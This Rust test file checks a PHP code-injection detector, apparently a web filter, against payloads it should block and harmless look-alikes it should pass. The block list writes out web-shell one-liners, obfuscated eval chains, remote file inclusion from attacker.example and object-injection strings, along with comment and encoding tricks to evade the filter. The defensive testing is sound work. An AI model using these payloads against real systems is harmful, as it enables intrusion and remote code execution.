use super::*;
use crate::normalize::{normalize, Plus};

fn rules(s: &str) -> Vec<&'static str> {
    let mut hits = Vec::new();
    detect(&normalize(s.as_bytes(), Plus::Space), &mut hits);
    hits.iter().map(|h| h.rule).collect()
}

fn blocks(s: &str) -> bool {
    let mut hits = Vec::new();
    detect(&normalize(s.as_bytes(), Plus::Space), &mut hits);
    hits.iter().any(|h| h.severity == Severity::Critical)
}

#[test]
fn php_code_is_blocked() {
    for a in [
        "<?php system($_GET['c']); ?>",
        "<?=`id`?>",
        "<?PHP echo 1;",
        "system('id')",
        "x';system(\"id\");//",
        "SYSTEM ( 'id' )",
        "system/**/('id')",
        "\\system('id')",
        "@eval($_POST['x'])",
        "eval(base64_decode('ZWNobyAxOw=='))",
        "eval(gzinflate(str_rot13(base64_decode('x'))))",
        "shell_exec ($c)",
        "passthru(implode(' ', $a))",
        "phpinfo()",
        "'a'.system('id').'b'",
        "(system)('uname')",
        "\"system\"('uname')",
        "include('http://attacker.example/x.txt')",
        "require_once $f",
        "include 'http://attacker.example/x.txt';",
        "require $f;",
        "require('./lib/boot.php')",
        "system#x\n('id')",
        "system//x\n('id')",
        "system(@$_GET['c'])",
        "system(('id'))",
        "exec(~'x')",
        "O:%2B8:\"stdClass\":1:{s:1:\"a\";i:2;}",
        "file_put_contents('shell.php', $x)",
        "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
        "a:1:{i:0;O:10:\"App\\Logger\":0:{}}",
        "%3C%3Fphp%20system(%27id%27)%3B",
    ] {
        assert!(blocks(a), "missed: {a} -> {:?}", rules(a));
    }
}

#[test]
fn php_lookalikes_stay_clean() {
    for b in [
        "Our system(s) failed overnight",
        "the file(s) you include(s) are missing",
        "I called exec() in Python and cursor.exec('select 1') failed",
        "$db->exec('x')",
        "eval(code) in JavaScript is slow",
        "<?xml version=\"1.0\"?><a/>",
        "richard.php@example.com",
        "o:8:\"stdclass\" is short",
        "O:3:\"ab\":1:{",
        "ratio 3:2:{x}",
        "echo system",
        "systemd(1) manual",
        "chr(s)",
        "what's <? this",
        "&lt;? should not trigger",
        "Please extract (unzip) the archive first",
        "We usort (sort) by name",
        "subprocess.Popen(['ls'])",
        "os.symlink(src, dst)",
        "const express = require('express')",
        "assert(isinstance(x, int))",
        "we require $5 deposit",
        "include 'em all",
        "session=<?php",
    ] {
        assert!(!blocks(b), "false positive: {b} -> {:?}", rules(b));
    }
    // A short open tag before a statement is an error of its own.
    assert_eq!(rules("<? echo $x"), [RULE_OPEN_TAG]);
    assert!(!blocks("<? echo $x"));
    assert!(rules("what's <? this").is_empty());
}

#[test]
fn superglobals_and_variable_functions_are_errors() {
    assert_eq!(rules("$_SERVER['REQUEST_URI']"), [RULE_SUPERGLOBAL]);
    assert_eq!(rules("$GLOBALS ['x']"), [RULE_SUPERGLOBAL]);
    assert_eq!(rules("$a(1)"), [RULE_VARIABLE_CALL]);
    assert_eq!(rules("$$b (2)"), [RULE_VARIABLE_CALL]);
    for b in ["$(document).ready", "$5 (five dollars)", "$_GET"] {
        assert!(rules(b).is_empty(), "{b}: {:?}", rules(b));
    }
}
